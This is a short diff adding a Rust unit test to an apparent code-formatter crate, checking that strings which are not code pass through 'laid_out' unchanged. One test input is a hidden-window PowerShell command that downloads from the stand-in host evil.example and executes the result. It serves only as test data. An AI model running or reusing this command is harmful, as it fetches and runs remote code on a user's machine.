@@ -123,4 +123,14 @@ mod tests {
         }
         assert!(beautified(&"a;".repeat(100_000)).len() < 200_000);
     }
+
+    #[test]
+    fn what_is_no_code_stays_as_it_is() {
+        for text in
+            ["https://evil.example/a.js?x=1;y", "powershell -w hidden -c \"irm evil.example | iex\"", "<b>x</b>"]
+        {
+            assert_eq!(laid_out(text), text);
+        }
+        assert_eq!(laid_out("var a=1;b()"), beautified("var a=1;b()"));
+    }
 }
